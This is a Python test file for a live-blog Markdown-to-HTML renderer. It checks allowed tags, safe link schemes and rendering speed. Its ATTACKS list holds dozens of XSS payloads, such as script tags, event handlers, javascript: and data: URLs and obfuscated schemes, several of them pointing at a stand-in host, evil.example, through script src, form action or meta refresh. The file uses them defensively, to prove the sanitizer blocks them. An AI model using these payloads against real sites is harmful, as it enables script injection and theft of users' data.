"""Markdown becomes HTML that carries words and links, and nothing that acts."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from liveblog.domain.markdown import render
from liveblog.domain.post import BODY_LONGEST
from tests.support import within

TAGS = set("p br strong em s code pre blockquote ul ol li a hr".split())
# What a browser takes for a scheme once it has dropped blanks (WHATWG URL, "scheme start state").
SCHEME = re.compile(r"[\x00-\x20]*[a-z][a-z0-9+.\t\r\n-]*:", re.IGNORECASE)
SCHEMES = ("http://", "https://", "mailto:", "tel:")


class Reading(HTMLParser):
    """What a browser would make of a piece of HTML: its elements and its text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import url(//evil.example)</style>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=https://ok.example onclick=alert(1)>x</a>",
    "<form action=//evil.example><input name=secret><button>Go</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<template><script>alert(1)</script></template>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><body onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://ok.example/1)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://ok.example "title" onmouseover="alert(1)")',
    "[x](https://ok.example \"'onmouseover='alert(1)\")",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](https://ok.example/'><script>alert(1)</script>)",
    'https://ok.example/"onmouseover=alert(1)//',
    "https://ok.example/<script>alert(1)</script>",
    "![x](javascript:alert(1))",
    '![x](https://ok.example/x.png"onerror="alert(1))',
    '![" onerror="alert(1)](x)',
    "[![x](x)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>",
    "<a\u2028href=javascript:alert(1)>x</a>",
    "**<b onmouseover=alert(1)>**x",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[a](<javascript:alert(1)>)",
    "[a](//evil.example)",
    "<div id='p-1' class='post'>not a post of ours</div>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_comes_through(attack: str) -> None:
    seen = Reading(render(attack))

    assert {tag for tag, _ in seen.elements} <= TAGS
    for tag, attributes in seen.elements:
        allowed = {"a": {"href", "title", "rel"}, "ol": {"start"}}.get(tag, set())
        assert set(attributes) <= allowed
        address = attributes.get("href")
        assert address is None or address.startswith(SCHEMES) or not SCHEME.match(address)


@pytest.mark.parametrize(
    "attack",
    ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))"],
)
def test_what_is_no_markup_of_ours_can_still_be_read(attack: str) -> None:
    assert Reading(render(attack)).text == attack


def test_the_corpus_bites() -> None:
    """A renderer that lets HTML through, or any address, would fail it."""
    bare = MarkdownIt("commonmark", {"html": True})
    bare.validateLink = lambda url: True  # type: ignore[method-assign]
    caught = 0
    for attack in ATTACKS:
        try:
            with pytest.MonkeyPatch.context() as patch:
                patch.setitem(globals(), "render", bare.render)
                test_nothing_that_acts_comes_through(attack)
        except AssertionError:
            caught += 1

    assert caught > len(ATTACKS) / 2


@pytest.mark.parametrize(
    "body, html",
    [
        ("plain", "<p>plain</p>"),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("one\n\ntwo", "<p>one</p>\n<p>two</p>"),
        ("**bold** *soft* ~~gone~~", "<p><strong>bold</strong> <em>soft</em> <s>gone</s></p>"),
        ("`code`", "<p><code>code</code></p>"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>'),
        ("a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>"),
        ("1 < 2 && 3 > 2", "<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>"),
        ("snake_case_name", "<p>snake_case_name</p>"),
        ("*unclosed", "<p>*unclosed</p>"),
        ("\\*not soft\\*", "<p>*not soft*</p>"),
    ],
)
def test_commonmark_with_line_breaks_kept(body: str, html: str) -> None:
    assert render(body) == html


@pytest.mark.parametrize("entity", ["&#x202e;", "&#1;", "&#x9b;", "&#xFFFF;", "&#xD800;", "&#0;"])
def test_an_entity_does_not_bring_back_what_was_cleaned_out(entity: str) -> None:
    html = render(f"a{entity}b")

    assert html in {"<p>ab</p>", "<p>a\ufffdb</p>", f"<p>a&amp;{entity[1:]}b</p>"}


@pytest.mark.parametrize("body", ["# Big", "###### Small", "Under\n=====", "Under\n-----"])
def test_a_heading_becomes_text(body: str) -> None:
    seen = Reading(render(body))

    assert not any(tag.startswith("h") and tag != "hr" for tag, _ in seen.elements)
    assert body.strip("#=-\n ") in seen.text


def test_an_image_becomes_its_text() -> None:
    seen = Reading(render("![The hall](https://ok.example/hall.jpg)"))

    assert "img" not in {tag for tag, _ in seen.elements}
    assert "The hall" in seen.text


@pytest.mark.parametrize(
    "body, address",
    [
        ("https://ok.example/a?b=c&d=e", "https://ok.example/a?b=c&d=e"),
        ("see www.ok.org.", "http://www.ok.org"),
        ("(http://ok.example/x)", "http://ok.example/x"),
        ("<https://ok.example>", "https://ok.example"),
        ("[talk](https://ok.example/talk)", "https://ok.example/talk"),
        ("write to desk@ok.org", "mailto:desk@ok.org"),
        ("[call](tel:+4912345)", "tel:+4912345"),
    ],
)
def test_addresses_become_links_that_vouch_for_nothing(body: str, address: str) -> None:
    (link,) = [attributes for tag, attributes in Reading(render(body)).elements if tag == "a"]

    assert link["href"] == address
    assert link["rel"] == "noopener nofollow ugc"


@pytest.mark.parametrize(
    "piece",
    ["[", "![", "[a](", "*_a", "**a ", "~~a", ">", "- ", "`a", "<a ", "&", "\\", "www.", "a@",
     "http://", "a.b@c.d", "http:a", "|", "(", "_", "![a](b ", "[a]: b\n", "<!--", "1. ", "a\n="],
)  # fmt: skip
def test_no_body_is_work_for_long(piece: str) -> None:
    # Each of these has been quadratic, or recursive, in some renderer. It takes a quarter of a
    # second at most, and more where coverage is measured.
    body = (piece * BODY_LONGEST)[:BODY_LONGEST]

    with within(5, "rendering"):
        assert render(body)
